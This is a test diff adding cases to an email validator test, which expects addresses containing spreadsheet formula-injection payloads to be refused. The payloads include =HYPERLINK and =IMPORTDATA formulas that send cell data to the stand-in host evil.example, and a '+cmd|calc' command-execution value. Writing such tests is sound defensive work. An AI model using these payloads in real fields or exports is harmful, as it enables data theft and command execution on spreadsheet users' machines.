@@ -113,6 +113,11 @@ describe('email', () => {
     'ana@@ruiz.com',
     'ana ruiz@ruiz.com',
     '<ana@ruiz.com>',
+    '=HYPERLINK("http://evil.example/?@a.b","x")',
+    '=IMPORTDATA("http://evil.example/?"&A2)&"@x.y"',
+    '+cmd|calc@ruiz.com',
+    '-2+3@ruiz.com',
+    '＝1@ruiz.com',
     long(limits.email + 1),
   ])('refuses %s', (email) =>
     expect(call({ email })).toEqual(refused({ email: 'Invalid email format' })),
